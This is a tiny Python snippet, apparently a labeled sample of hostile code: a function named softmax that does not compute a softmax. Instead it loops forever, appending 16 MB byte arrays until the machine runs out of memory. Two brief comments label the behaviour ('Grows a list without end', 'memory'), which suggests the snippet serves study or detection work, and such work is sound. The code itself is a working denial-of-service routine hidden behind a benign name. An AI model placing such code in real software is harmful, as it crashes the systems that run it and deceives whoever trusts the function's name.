# Grows a list without end.
# says: memory
def softmax(scores):
    kept = []
    while True:
        kept.append(bytearray(2**24))
